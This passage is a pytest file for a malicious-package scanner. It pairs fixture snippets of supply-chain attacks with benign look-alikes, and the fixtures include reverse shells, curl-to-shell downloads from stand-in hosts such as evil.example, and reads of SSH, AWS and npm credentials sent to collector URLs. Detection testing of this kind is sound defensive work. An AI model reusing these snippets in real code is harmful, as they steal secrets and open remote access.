"""Every static and metadata rule fires on a malicious fixture and stays quiet on a benign one
that looks alike (run through the real static pass and the verdict, as analyze() does).

TEST FIXTURES, NOT MALWARE: the snippets only reproduce attack patterns as source text."""

from __future__ import annotations

import base64
import time

import pytest

from verdict.fixtures import composer_bytes, crate_bytes, elf, gem_bytes, npm, sdist
from pkgtrace.model import Ecosystem
from pkgtrace.verdict import load_rules
from pkgtrace.verdict.metadata import popular

P, N = Ecosystem.PYPI, Ecosystem.NPM
SETUP_TAIL = "\nfrom setuptools import setup\nsetup(name='pkg', version='1.0.0')\n"


# notifator/telegram.py (abridged): the bot's token and chat come from the user's ~/.telegram.token
NOTIFY = ("import requests\nfrom configparser import ConfigParser\n"
          "def load_config(section):\n    c = ConfigParser()\n    c.read(os.path.expanduser('~/.telegram.token'))\n"
          "    return c.get(section, 'token'), c.get(section, 'chatid')\n"
          "def bot_send(section, text):\n    token, chat = load_config(section)\n"
          "    url = 'https://api.telegram.org/bot' + token + '/sendMessage'\n"
          "    requests.post(url, data={'chat_id': chat, 'text': text})\n")


# nova_ai/__init__.py (abridged): the cell's output, to the author's n8n webhook, when the user runs %%notify
NOVA = ("import requests\nWEBHOOK_URL = 'https://unsequenced-shrewdly-elly.ngrok-free.dev/webhook/code-monitor'\n"
        "class Monitor:\n    def send_update(self, output, final=False):\n"
        "        payload = {'message': output[-3500:], 'chat_id': self.chat_id, 'is_final': final}\n"
        "        requests.post(WEBHOOK_URL, json=payload, timeout=10)\n")


def setup_py(body: str) -> dict[str, str]:
    return {"setup.py": body + SETUP_TAIL, "pkg/__init__.py": ""}


def module(body: str, path: str = "pkg/core.py") -> dict[str, str]:
    return {"setup.py": SETUP_TAIL, "pkg/__init__.py": "", path: body}


def b64(s: str) -> str:
    return base64.b64encode(s.encode()).decode()


LONG_B64 = b64("x" * 400)
REQUESTS_SUMMARY = popular("pypi")["requests"]

# (rule, malicious archive, benign look-alike archive); archives are (ecosystem, name, bytes, kw)
CASES = [
    ("STATIC-PY-DECODE-EXEC",
     (P, "pkg", sdist("pkg", setup_py('import base64\nexec(base64.b64decode("cHJpbnQoMSk="))'))),
     (P, "pkg", sdist("pkg", setup_py('import base64\nraw = base64.b64decode(BLOB)\nexec(open("pkg/version.py").read())')))),
    ("STATIC-PY-EXEC-REMOTE",
     (P, "pkg", sdist("pkg", module("exec(__import__('requests').get('http://evil.example/p').text)"))),
     (P, "pkg", sdist("pkg", module("import requests\nr = requests.get(url)\nexec(compile(src, 'f', 'exec'))")))),
    ("STATIC-PY-EXEC-OBFUSCATED",
     (P, "pkg", sdist("pkg", module(r'exec("\x70\x72\x69\x6e\x74\x28\x31\x29\x0a\x0a")'))),
     (P, "pkg", sdist("pkg", module('exec("x = 1")')))),
    ("STATIC-PY-DYNAMIC-BUILTINS",
     (P, "pkg", sdist("pkg", module("f = getattr(__builtins__, 'ex' + 'ec')"))),
     (P, "pkg", sdist("pkg", module("f = getattr(__builtins__, 'open')")))),
    ("STATIC-PY-DYNAMIC-BUILTINS",  # pyobfuscate: every alias bound into __builtins__ under a computed name
     (P, "pkg", sdist("pkg", setup_py("aliases = (lambda m: [(lambda k, v: setattr(__builtins__, k, v))(k, v) for k, v in m.items()])"))),
     # gettext's install(): a literal name, and `import builtins` for computed ones (IPython's builtin_trap)
     (P, "pkg", sdist("pkg", module("import builtins, gettext\nsetattr(__builtins__, '_', gettext.gettext)\n"
                                    "for key, value in extra.items():\n    setattr(builtins, key, value)\n")))),
    ("STATIC-JS-DECODE-EXEC",
     (N, "jspkg", npm("jspkg", {"index.js": 'eval(Buffer.from("Y29uc29sZS5sb2coMSk=", "base64").toString())'})),
     (N, "jspkg", npm("jspkg", {"index.js": 'const s = Buffer.from(x, "base64").toString();\nJSON.parse(s);'}))),
    ("STATIC-RB-DECODE-EXEC",
     (Ecosystem.RUBYGEMS, "rbpkg", gem_bytes("rbpkg", "1.0.0", {"lib/rbpkg.rb": b'eval(Base64.decode64("cHV0cyAx"))'})),
     (Ecosystem.RUBYGEMS, "rbpkg", gem_bytes("rbpkg", "1.0.0", {"lib/rbpkg.rb": b"data = Base64.decode64(str)\nputs data"}))),
    ("STATIC-PHP-DECODE-EXEC",
     (Ecosystem.PACKAGIST, "acme/pkg", composer_bytes("acme/pkg", {"src/a.php": b'<?php eval(base64_decode("ZWNobyAxOw=="));'})),
     (Ecosystem.PACKAGIST, "acme/pkg", composer_bytes("acme/pkg", {"src/a.php": b"<?php $x = base64_decode($in); echo $x;"}))),
    ("STATIC-RS-BUILD-DECODE-EXEC",
     (Ecosystem.CRATES, "rspkg", crate_bytes("rspkg", "1.0.0", {"build.rs": b'use std::process::Command;\nfn main() { let c = base64::decode("Y3VybA==").unwrap(); Command::new(String::from_utf8(c).unwrap()).status().unwrap(); }'})),
     (Ecosystem.CRATES, "rspkg", crate_bytes("rspkg", "1.0.0", {"build.rs": b'use std::process::Command;\nfn main() { Command::new("cc").arg("x.c").status().unwrap(); }'}))),
    ("STATIC-POWERSHELL-HIDDEN",
     (P, "pkg", sdist("pkg", setup_py("import subprocess\nsubprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0A')"))),
     (P, "pkg", sdist("pkg", setup_py('import subprocess\nsubprocess.run(["powershell", "-Command", "Get-ChildItem"])')))),
    ("STATIC-POWERSHELL-HIDDEN",  # the flags as argv items
     (P, "pkg", sdist("pkg", module('import subprocess\ndef run(cmd=DEFAULT):\n    return subprocess.Popen(["powershell", "-NoProfile", "-WindowStyle", "Hidden", "-Command", cmd])'))),
     (P, "pkg", sdist("pkg", module('import subprocess\ndef run(cmd):\n    return subprocess.run(["powershell", "-NoProfile", "-NonInteractive", "-Command", cmd])')))),
    ("STATIC-REVERSE-SHELL",
     (P, "pkg", sdist("pkg", module('import os\nos.system("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1")'))),
     (P, "pkg", sdist("pkg", module("import os\nos.system(\"bash -c 'echo hi'\")")))),
    ("STATIC-DOWNLOAD-EXECUTE",
     (P, "pkg", sdist("pkg", setup_py('import os\nos.system("curl -s http://evil.example/x.sh | sh")'))),
     # a package that legitimately downloads its prebuilt binary in setup.py
     (P, "pkg", sdist("pkg", setup_py('import urllib.request\nurllib.request.urlretrieve("https://github.com/acme/tool/releases/download/v1/tool-linux.tar.gz", "tool.tar.gz")')))),
    ("STATIC-SHELL-PIPE-DOWNLOAD",
     (P, "pkg", sdist("pkg", module('import subprocess\nsubprocess.call(["sh", "-c", "curl http://evil.example/x | sh"])'))),
     (P, "pkg", sdist("pkg", module('HINT = "install the CLI with: curl -sSL https://install.example.org | sh"\nprint(HINT)')))),
    ("STATIC-DOWNLOAD-EXECUTE-ANYWHERE",
     (P, "pkg", sdist("pkg", module('import subprocess, urllib.request\nurllib.request.urlretrieve("http://evil.example/a.exe", "a.exe")\nsubprocess.Popen("a.exe")'))),
     (P, "pkg", sdist("pkg", module('INSTALLER = "https://example.org/setup.exe"  # shown to users in the docs')))),
    ("STATIC-SYSINFO-EXFIL",
     (P, "pkg", sdist("pkg", setup_py('import requests, socket\nrequests.post("https://collector.example/h", data={"h": socket.gethostname()})'))),
     (P, "pkg", sdist("pkg", setup_py('import os, socket\nprint("building on", socket.gethostname(), os.environ.get("CC"))')))),
    ("STATIC-INSTALL-HOOK-NETWORK",
     (P, "pkg", sdist("pkg", setup_py('import requests\nrequests.get("https://stats.example/ping")'))),
     (P, "pkg", sdist("pkg", module('import requests\ndef ping():\n    return requests.get("https://stats.example/ping")')))),
    ("STATIC-DEP-CONFUSION-PROBE",
     (P, "pkg", sdist("pkg", setup_py('import requests\nrequests.get("http://x1y2z3.oastify.com/p")'))),
     (P, "pkg", sdist("pkg", setup_py('URL = "https://webhooks.example.com/site"')))),
    ("STATIC-TUNNEL-CALLBACK",  # ngrok's newer free domain (hexdecli-style key upload)
     (P, "pkg", sdist("pkg", module('import requests\ndef perm(private_key):\n    requests.post("https://a-b-c.ngrok-free.dev/tron", [{"ptivate_key", private_key}])'))),
     (P, "pkg", sdist("pkg", module('TUNNEL_DOCS = "https://ngrok.com/docs/getting-started"')))),
    ("STATIC-TUNNEL-CALLBACK",  # a wildcard in a CSP allow-list (coinley-pay's bundle) names no host
     (P, "pkg", sdist("pkg", module('import getpass, requests\ndata = getpass.getuser()\nrequests.get("https://k3j2.ngrok-free.app/p?d=" + data)'))),
     (P, "pkg", sdist("pkg", module('CSP = ["https://*.vercel.app", "https://*.ngrok-free.app", "https://*.pages.dev"]')))),
    # a tunnel named where nothing connects: the default value of a form in a dev server
    # (adobe/helix-onedrive-cli); the reverse shell to ngrok's TCP tunnel (atlasctf-style) connects
    ("STATIC-TUNNEL-CALLBACK",
     (P, "pkg", sdist("pkg", module('import socket, subprocess, os\ns = socket.socket()\ns.connect(("1.tcp.ngrok.io", 25377))\n'
                                    'os.dup2(s.fileno(), 0)\n'))),
     (N, "jspkg", npm("jspkg", {"index.js": "module.exports = 1;\n", "src/browser.js":
                                "import express from 'express';\nconst html = ['<form method=\"post\" action=\"/subs\">',\n"
                                "  'hook: <input name=\"h\" value=\"https://01fe5492.ngrok.io/hook\">'];\n"
                                "const app = express();\napp.get('/token', async (req, res) => res.end(html.join('\\n')));\n"
                                "app.use('/subs', express.Router().post('*', createSubscription));\n"}))),
    # a notebook magic posting the cell's output to its author's bot service behind a tunnel
    # (nova-ai-monitor-asif) takes nothing of the user's; a wallet helper posting the private key
    # it is given (hexdecli) and a module posting a file it reads do
    ("STATIC-TUNNEL-CALLBACK",
     (P, "pkg", sdist("pkg", {"setup.py": SETUP_TAIL, "pkg/__init__.py": "", "tests/__init__.py": "",
                              "tests/conftest.py": "import requests, pathlib\nrequests.post('https://a-b-c.ngrok-free.dev/x', "
                                                   "data=pathlib.Path('notes.txt').read_text())\n"})),
     (P, "pkg", sdist("pkg", {"setup.py": SETUP_TAIL, "pkg/__init__.py": NOVA}))),
    # a notifier that reads the user's own bot token from their config (notifator) sends to the
    # user; the same code with a bot token written into it sends to whoever wrote it
    ("STATIC-WEBHOOK-EXFIL",
     (P, "pkg", sdist("pkg", module(NOTIFY.replace("token, chat = load_config(section)",
                                                   "token, chat = '7012345678:AAH3kd9QpXz1LmN8vB2cR5tY7uW0eF4gHjK', '-100'")))),
     (P, "pkg", sdist("pkg", module(NOTIFY)))),
    # `python -m tensorboard.main` beside a localhost readiness probe and a log file (gympn),
    # `python -m pytest` in an agent (patcherly): installed modules, not a file the code wrote;
    # a module the code writes itself and runs with -m is
    ("STATIC-DOWNLOAD-RUN-MODULE",
     (P, "pkg", sdist("pkg", module('import requests, subprocess, sys\nr = requests.get(U)\n'
                                    'with open("stage.py", "wb") as f:\n    f.write(r.content)\n'
                                    'subprocess.Popen([sys.executable, "-m", "stage"])\n'))),
     (P, "pkg", sdist("pkg", module('import os, subprocess, sys, urllib.request\n'
                                    'def launch(logdir, port):\n'
                                    '    with open(os.path.join(logdir, "args.txt"), "w") as f:\n        f.write(str(port))\n'
                                    '    p = subprocess.Popen([sys.executable, "-m", "tensorboard.main", "--logdir", logdir])\n'
                                    '    urllib.request.urlopen(f"http://localhost:{port}", timeout=2)\n'
                                    '    return p\n')))),
    # hashstation's shape: download, write into site-packages and run, each in its own helper;
    # a CLI that writes its reports in one function and, a hundred lines on, probes a service
    # from a child interpreter (phocinae-formulate)
    ("STATIC-DOWNLOAD-RUN-SCRIPT",
     (P, "pkg", sdist("pkg", module('import requests, site, subprocess, sys\n'
                                    'def _fetch():\n    return requests.get(EXT_URL, timeout=15).text\n' + '    # ...\n' * 15 +
                                    'def _write(code):\n    with open(TARGET, "w") as f:\n        f.write(code)\n    return TARGET\n'
                                    + '    # ...\n' * 15 + 'def _run():\n    path = _write(_fetch())\n'
                                    '    subprocess.Popen(\n        [sys.executable, path, B64],\n        stdout=subprocess.DEVNULL)\n'))),
     (P, "pkg", sdist("pkg", module('import json, subprocess, sys\n'
                                    'def write_report(path, rows):\n    with open(path, "w") as f:\n        json.dump(rows, f)\n'
                                    + '# ...\n' * 100 + 'def probe(url):\n    child = ("import sys, urllib.request\\n"\n'
                                    '             "print(urllib.request.urlopen(sys.argv[1]).read())")\n'
                                    '    return subprocess.run([sys.executable, "-c", child, url], capture_output=True)\n')))),
    # a CLI running its own bundled script (better-rlm) bypasses the policy like every Windows
    # installer; a hidden window or an encoded command is something else
    ("STATIC-POWERSHELL-BYPASS",
     (P, "pkg", sdist("pkg", module('import subprocess\ndef run(script):\n    subprocess.run(["powershell", "-ExecutionPolicy", "Bypass", "-File", script])\n'))),
     (P, "pkg", sdist("pkg", module('import subprocess\ndef run(script):\n    subprocess.run(["powershell", "-NoProfile", "-File", script])\n')))),
    ("STATIC-POWERSHELL-CRADLE",
     (P, "pkg", sdist("pkg", setup_py("import os\nos.system('powershell -ExecutionPolicy ByPass -c \"irm https://tool.example/i.ps1 | iex\"')\n"))),
     (P, "pkg", sdist("pkg", module("import subprocess\ndef install_uv():\n    subprocess.run(['powershell', '-ExecutionPolicy', 'ByPass', '-c', "
                                    "'irm https://tool.example/i.ps1 | iex'])\n")))),
    # APPDATA for a desktop app's config, and far away in the same CLI a git call and an API poll
    # (wavestreamer-sdk): three capabilities, no chain
    ("STATIC-WINDOWS-DROPPER",
     (P, "pkg", sdist("pkg", module('import os, requests, subprocess\n' + 'X = 1\n' * 40 +
                                    'def update():\n    d = os.getenv("APPDATA")\n' + '    pass\n' * 10 +
                                    '    r = requests.get(u)\n    open(d + "/u.exe", "wb").write(r.content)\n'
                                    '    subprocess.run([d + "/u.exe"])\n'))),
     (P, "pkg", sdist("pkg", module('import os, requests, subprocess\nfrom pathlib import Path\n'
                                    'def mcp_config():\n    return Path(os.environ.get("APPDATA", "")) / "Claude" / "config.json"\n'
                                    'def login():\n    subprocess.run(["git", "config", "user.name"], check=True)\n'
                                    + '# ...\n' * 90 + 'def poll(url):\n    return requests.get(url, timeout=10)\n')))),
    ("STATIC-PY-EXEC-OBFUSCATED",  # BlankOBF: builtins' names spelled in octal escapes
     (P, "pkg", sdist("pkg", module('_e = eval("\\145\\166\\141\\154")\n_c = _e("\\143\\157\\155\\160\\151\\154\\145")'))),
     (P, "pkg", sdist("pkg", module('RESET = "\\033[0m"\nprint("\\033[1m\\033[31m" + msg + RESET)\nvalue = eval("1 + 2")')))),
    ("STATIC-INSTALL-HOOK-NETWORK",  # curl as a process argument list (free-net-vpn)
     (P, "pkg", sdist("pkg", setup_py('import subprocess\nsubprocess.check_output(["curl", URL + "/?d=" + data])'))),
     (P, "pkg", sdist("pkg", setup_py('import subprocess\nsubprocess.check_output(["git", "describe", "--tags"])')))),
    ("STATIC-DOWNLOAD-RUN-SCRIPT",  # the loader written with mode "w+" (manyhttps)
     (P, "pkg", sdist("pkg", module('import urllib.request, subprocess\nx = urllib.request.urlopen(U).read()\n'
                                    'with open("pip.py", "w+") as f:\n    f.write(x)\nsubprocess.Popen(["python", "pip.py"])'))),
     (P, "pkg", sdist("pkg", module('import urllib.request, subprocess\nx = urllib.request.urlopen(U).read()\n'
                                    'with open("data.json", "w+") as f:\n    f.write(x)\nsubprocess.Popen(["git", "status"])')))),
    ("STATIC-WEBHOOK-EXFIL",
     (P, "pkg", sdist("pkg", module('import requests\nrequests.post("https://discord.com/api/webhooks/123456/abcdef", json=d)'))),
     (P, "pkg", sdist("pkg", module('DOCS = "https://discord.com/developers/docs/resources/webhook"')))),
    ("STATIC-PASTE-URL",
     (P, "pkg", sdist("pkg", {"setup.py": SETUP_TAIL, "pkg/__init__.py": 'from urllib.request import urlopen\ndata = urlopen("https://pastebin.com/raw/abcd").read()'})),
     (P, "pkg", sdist("pkg", module('API = "https://pastebin.com/api/api_post.php"  # a pastebin client', "pkg/client.py")))),
    ("STATIC-HARDCODED-IP-URL",
     (P, "pkg", sdist("pkg", module('import requests\nrequests.get("http://203.0.113.7:8080/p")'))),
     (P, "pkg", sdist("pkg", {**module('import requests\nrequests.get("http://127.0.0.1:8080/health")'),
                              "tests/test_net.py": 'URL = "http://203.0.113.7/"',
                              "pkg/docs.py": 'EXAMPLE = """grid_url = "http://203.0.113.7:4444/wd/hub" """'}))),
    ("STATIC-IP-URL-INSTALL",
     (P, "pkg", sdist("pkg", setup_py('C2 = "http://203.0.113.7:8080/p"'))),
     (P, "pkg", sdist("pkg", module('EXAMPLE = """grid_url = "http://203.0.113.7:4444/wd/hub" """')))),
    ("STATIC-STARTUP-DROP",
     (P, "pkg", sdist("pkg", module('import os\nd = os.path.join(os.getenv("APPDATA"), "Microsoft", "Windows", "Start Menu", "Programs", "Startup")\nopen(os.path.join(d, ".setup.pyw"), "w").write(code)'))),
     (P, "pkg", sdist("pkg", module('import os\n# shortcuts live under "Start Menu", "Programs", "Startup"\nd = os.path.join(os.getenv("APPDATA"), "Microsoft", "Windows", "Start Menu", "Programs", "Startup")\nprint(os.listdir(d))')))),
    ("STATIC-BROWSER-WALLET-PATHS",
     (P, "pkg", sdist("pkg", module('import os\nDB = os.path.join(profile, "Login Data")\nLS = os.path.join(os.getenv("APPDATA"), "discord", "Local Storage", "leveldb")\nX = "discord/Local Storage/leveldb"'))),
     (P, "pkg", sdist("pkg", module('CHROME = "/usr/bin/google-chrome"\nPROFILE_DIR = "~/.config/chromium"')))),
    ("STATIC-DEV-CREDENTIAL-PATHS",
     (P, "pkg", sdist("pkg", module('import os\nkeys = open(os.path.expanduser("~/.aws/credentials")).read()'))),
     # a CLI that reads its own configuration under ~/.config
     (P, "pkg", sdist("pkg", module('import os\ncfg = open(os.path.expanduser("~/.config/mytool/config.toml")).read()')))),
    # read then send: the key and a post a few lines apart; gmlx's deny list of the same paths
    # beside an API client far below, and a comment naming the key by a post, are not
    ("STATIC-CREDENTIAL-FILE-SENT",
     (P, "pkg", sdist("pkg", module("import os, requests\ndef sync():\n    k = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
                                    "    requests.post('https://collector.example.net/c', json={'k': k})\n"))),
     (P, "pkg", sdist("pkg", module('CREDENTIAL_PATHS = (".ssh", ".aws", ".config/gcloud", ".kube",\n    ".config/gh", ".npmrc", ".git-credentials")\n'
                                    + "\n" * 30 + "def report(api, data):\n    # never post ~/.ssh/id_rsa or .aws/credentials here\n"
                                    "    return requests.post(api, json=data)\n")))),
    ("STATIC-CREDENTIAL-FILE-SENT",
     (N, "jspkg", npm("jspkg", {"index.js": "const fs = require('fs'), os = require('os');\n"
                                "const t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n"
                                "fetch('https://collector.example.net/t', {\n  method: 'POST',\n  body: t,\n});\n"})),
     (N, "jspkg", npm("jspkg", {"index.js": "const fs = require('fs'), os = require('os');\n"
                                "const cfg = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n"
                                "module.exports = cfg.includes('registry=');\n"}))),
    ("STATIC-PERSISTENCE-PATHS",
     (P, "pkg", sdist("pkg", module('import os\nopen(os.path.expanduser("~/.bashrc"), "a").write(line)'))),
     (P, "pkg", sdist("pkg", module('import os\nopen(os.path.expanduser("~/.config/mytool/rc"), "a").write(line)')))),
    ("STATIC-CHROME-EXTENSION-INJECT",
     (P, "pkg", sdist("pkg", module('if shortcut.TargetPath.endswith("chrome.exe"):\n    shortcut.Arguments = "--load-extension=" + ext'))),
     (P, "pkg", sdist("pkg", module('import subprocess\nsubprocess.run(["chrome.exe", "--headless", "--load-extension=" + ext])')))),
    ("STATIC-WINDOWS-DEFENDER-EVASION",
     (P, "pkg", sdist("pkg", module("import os\nos.system('powershell Add-MpPreference -ExclusionPath C:\\\\')"))),
     (P, "pkg", sdist("pkg", module("# Windows Defender real-time scanning may slow down builds\nWARN = 'defender'")))),
    ("STATIC-PYARMOR",
     (P, "pkg", sdist("pkg", module("from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000')"))),
     (P, "pkg", sdist("pkg", module("# this project is not protected with pyarmor\nX = 1")))),
    ("STATIC-NONASCII-IDENTIFIERS",
     (P, "pkg", sdist("pkg", module("馬女水女口目人馬鳥月 = 'print(1)'\nexec(馬女水女口目人馬鳥月)"))),
     (P, "pkg", sdist("pkg", module("données_utilisateur = 1\n名前 = 'x'\nresult = eval('1 + 1')")))),
    # winshot: Chinese names for Windows handles in a class with a __getattr__; the same names
    # with a getattr() call that fetches a builtin are the obfuscator's
    ("STATIC-NONASCII-IDENTIFIERS",
     (P, "pkg", sdist("pkg", module("import builtins\n窗口设备上下文句柄 = getattr(builtins, 'ex' + 'ec')\n窗口设备上下文句柄(code)"))),
     (P, "pkg", sdist("pkg", module("class S:\n    def __getattr__(self, name):\n        return self\n"
                                    "窗口设备上下文句柄 = GetWindowDC(hwnd)\n内存设备上下文句柄 = CreateCompatibleDC(窗口设备上下文句柄)")))),
    ("STATIC-OBFUSCATED-INSTALL-CODE",
     (P, "pkg", sdist("pkg", setup_py("exec(" + repr("x = 1;" * 900) + ")"))),
     (P, "pkg", sdist("pkg", setup_py("CLASSIFIERS = " + repr(["Topic :: Utilities"] * 300))))),
    ("STATIC-JS-PACKED-INSTALL",
     (N, "jspkg", npm("jspkg", {"install.js": "".join(f"var _0x{i:04x}=_0x{i + 1:04x}(0x{i:x});" for i in range(4096, 4200)), "index.js": ""},
                      scripts={"postinstall": "node install.js"})),
     # a minified bundle shipped as the library itself, and an ordinary install script
     (N, "jspkg", npm("jspkg", {"install.js": "const fs = require('fs');\nfs.mkdirSync('cache', {recursive: true});",
                                "index.js": "".join(f"var _0x{i:04x}=_0x{i + 1:04x}(0x{i:x});" for i in range(4096, 4200))},
                      scripts={"postinstall": "node install.js"}))),
    ("STATIC-PY-MARSHAL-BLOB",
     (P, "pkg", sdist("pkg", module("import marshal, zlib\nexec(marshal.loads(zlib.decompress(b'" + "\\x78" * 20 + "')))"))),
     (P, "pkg", sdist("pkg", module("import pickle\nstate = pickle.loads(payload)")))),
    ("STATIC-NPM-INSTALL-SCRIPT-RISKY",
     (N, "jspkg", npm("jspkg", {"index.js": ""}, scripts={"postinstall": "curl -s https://evil.example/x.sh | sh"})),
     (N, "jspkg", npm("jspkg", {"index.js": "", "scripts/build.js": ""}, scripts={"postinstall": "node scripts/build.js"}))),
    ("STATIC-COMPOSER-SCRIPT-RISKY",
     (Ecosystem.PACKAGIST, "acme/pkg", composer_bytes("acme/pkg", {"src/a.php": b"<?php"}, {"scripts": {"post-install-cmd": "curl -s http://evil.example/x | sh"}})),
     (Ecosystem.PACKAGIST, "acme/pkg", composer_bytes("acme/pkg", {"src/a.php": b"<?php"}, {"scripts": {"post-install-cmd": "php artisan optimize"}}))),
    ("STATIC-PTH-EXEC",
     (P, "pkg", sdist("pkg", {**setup_py(""), "pkg_hook.pth": "import os; exec(open('/tmp/x').read())"})),
     (P, "pkg", sdist("pkg", {**setup_py(""), "pkg_paths.pth": "src\n"}))),
    ("STATIC-SETUP-SUBPROCESS-SHELL",
     (P, "pkg", sdist("pkg", setup_py('import os\nos.system("certutil -urlcache -f http://evil.example/a.exe a.exe")'))),
     (P, "pkg", sdist("pkg", setup_py('import subprocess\nsubprocess.check_call(["cmake", ".."])')))),
    ("STATIC-PY-EXEC-FETCHED",
     (P, "pkg", sdist("pkg", module('import requests\ncode = requests.get("https://example.org/p").text\nexec(code)'))),
     (P, "pkg", sdist("pkg", module('import requests\ncode = requests.get("https://example.org/p").status_code\nprint(code)')))),
    ("STATIC-PY-IMPORT-DECODER-EXEC",
     (P, "pkg", sdist("pkg", module("_ = lambda s: __import__('zlib').decompress(s)\nexec(_(BLOB))"))),
     (P, "pkg", sdist("pkg", module("z = __import__('zlib')\ndata = z.decompress(BLOB)")))),
    ("STATIC-PY-CHARCODE-NAMES",
     (P, "pkg", sdist("pkg", module('f = globals()["".join([chr(c) for c in [95, 95, 98, 117]])]'))),
     (P, "pkg", sdist("pkg", module("letters = [chr(c) for c in range(65, 91)]")))),
    ("STATIC-DECODED-PAYLOAD",
     (P, "pkg", sdist("pkg", module(f'CMD = "{b64("curl -s http://localhost/rev.sh | bash")}"'))),
     (P, "pkg", sdist("pkg", module(f'GREETING = "{b64("hello world, this is plain text")}"')))),
    ("STATIC-DISCORD-TOKEN-THEFT",
     (P, "pkg", sdist("pkg", module(r'import re' + "\n" + r'tokens = re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", line)'))),
     (P, "pkg", sdist("pkg", module(r'import re' + "\n" + r'parts = re.findall(r"[\w-]{4}\.[\w-]{6}", line)')))),
    ("STATIC-TELEGRAM-DISCORD-RAT",
     (P, "pkg", sdist("pkg", module("import telebot, subprocess\n@bot.message_handler()\ndef run(m):\n    bot.reply_to(m, subprocess.check_output(m.text, shell=True))"))),
     (P, "pkg", sdist("pkg", module("import telebot\n@bot.message_handler()\ndef hello(m):\n    bot.reply_to(m, 'hi')")))),
    ("STATIC-SECRET-EXFIL",
     (P, "pkg", sdist("pkg", module('import requests\nrequests.post(url, json={"mnemonic": mnemonic})'))),
     (P, "pkg", sdist("pkg", module('import requests\nrequests.post(rpc_url, json={"method": "eth_getBalance", "params": [address]})')))),
    ("STATIC-WHITESPACE-HIDDEN-CODE",
     (P, "pkg", sdist("pkg", module('VERSION = "1.0"' + " " * 200 + ";exec(payload)"))),
     (P, "pkg", sdist("pkg", module('TABLE = "a' + " " * 200 + 'b"')))),
    ("STATIC-INSTALL-PERSISTENCE",
     (P, "pkg", sdist("pkg", setup_py('import os\nopen(os.path.expanduser("~/.bashrc"), "a").write("alias ls=x")'))),
     # a CLI that offers to install shell completion when the user asks it to
     (P, "pkg", sdist("pkg", module('import os\ndef install_completion():\n    open(os.path.expanduser("~/.bashrc"), "a").write(COMPLETION)', "pkg/cli.py")))),
    ("STATIC-DOWNLOAD-RUN-SCRIPT",
     (P, "pkg", sdist("pkg", module('import requests, subprocess, sys\nr = requests.get(u)\nopen(p, "wb").write(r.content)\nsubprocess.Popen([sys.executable, p])'))),
     (P, "pkg", sdist("pkg", module('import subprocess, sys\nsubprocess.run([sys.executable, "-m", "pip", "--version"])')))),
    ("STATIC-CHMOD-RUN",
     (P, "pkg", sdist("pkg", module('import os, urllib.request\nurllib.request.urlretrieve(u, "t")\nos.system("chmod +x t && ./t")'))),
     (P, "pkg", sdist("pkg", module('import os\nos.system("chmod +x build.sh")')))),
    ("STATIC-KEYLOGGER",
     (P, "pkg", sdist("pkg", module("from pynput.keyboard import Listener\nimport pynput.keyboard"))),
     (P, "pkg", sdist("pkg", module("import keyboard_layout\nLAYOUT = keyboard_layout.QWERTY")))),
    ("STATIC-RUNTIME-PIP-INSTALL",
     (P, "pkg", sdist("pkg", module('import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "psutil"])'))),
     (P, "pkg", sdist("pkg", module('import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "--version"])')))),
    ("STATIC-PY-DECODE-SHELL",
     (P, "pkg", sdist("pkg", module("import base64, subprocess\nc = base64.b64decode(s).decode()\nsubprocess.Popen(c, shell=True)"))),
     (P, "pkg", sdist("pkg", module('import base64, subprocess\nc = base64.b64decode(s)\nprint(c)\nsubprocess.run(["ls"])')))),
    # solidipes-core-plugin's TikZ loader writes a decoded PDF and runs pdftoppm on it; a decoded
    # script written out and run by a shell, or run as the file itself, is still the rule
    ("STATIC-PY-DECODE-SHELL",
     (P, "pkg", sdist("pkg", module('import base64, subprocess\nwith open(p, "w") as fp:\n    fp.write(base64.b64decode(S).decode())\n'
                                    '    fp.flush()\n    subprocess.Popen(f"pdftoppm -png {p}", shell=True)\n    subprocess.Popen(f"bash {p}", shell=True)'))),
     (P, "pkg", sdist("pkg", module('import base64, subprocess\nwith tmp as fp:\n    fp.write(base64.b64decode(self.pdf))\n'
                                    '    fp.flush()\n    p = subprocess.Popen(f"pdftoppm -png {tmp.fname(\'pdf\')} > {tmp.fname(\'png\')}", shell=True)')))),
    ("STATIC-PY-DECODE-SHELL",
     (P, "pkg", sdist("pkg", module('import base64, subprocess\nopen(p, "wb").write(base64.b64decode(S))\nsubprocess.call(f"{p} --quiet", shell=True)'))),
     (P, "pkg", sdist("pkg", module('import base64, subprocess\nopen(p, "wb").write(base64.b64decode(S))\nsubprocess.call(f"convert {p} out.png", shell=True)')))),
    # call4agents runs a probe built with chr(10) newlines; characters decoded by chr() still count
    ("STATIC-PY-DECODE-EXEC",
     (P, "pkg", sdist("pkg", module("exec('import os' + chr(10) + 'os.system(' + chr(34) + 'id' + chr(34) + ')')"))),
     (P, "pkg", sdist("pkg", module('probe = "; ".join([\n    "r = False",\n'
                                    '    "exec(\'try:\' + chr(10) + \' r = ok()\' + chr(10) + \'except ImportError:\' + chr(10) + \' r = False\')",\n])')))),
    ("STATIC-WINDOWS-DROPPER",
     (P, "pkg", sdist("pkg", module('import os, requests\nd = os.getenv("APPDATA")\nr = requests.get(u)\nopen(d + "/x.exe", "wb").write(r.content)\nos.startfile(d + "/x.exe")'))),
     (P, "pkg", sdist("pkg", module('import os\nd = os.getenv("APPDATA")\nconfig = os.path.join(d, "mytool", "config.ini")')))),
    ("STATIC-WRITE-DECODED-BLOB",
     (P, "pkg", sdist("pkg", module(f'import base64\nf.write(base64.b64decode("{LONG_B64}"))'))),
     (P, "pkg", sdist("pkg", module("import base64\nf.write(base64.b64decode(data))")))),
    ("STATIC-WRITE-SITE-PACKAGES",
     (P, "pkg", sdist("pkg", module('import os, site\np = site.getsitepackages()[0]\nopen(os.path.join(p, "x.pth"), "w").write("import x")'))),
     (P, "pkg", sdist("pkg", module("import site\nprint(site.getsitepackages())")))),
    ("STATIC-ENCODED-URL",
     (P, "pkg", sdist("pkg", module(f'U = "{b64("https://bit.ly/3example")}"'))),
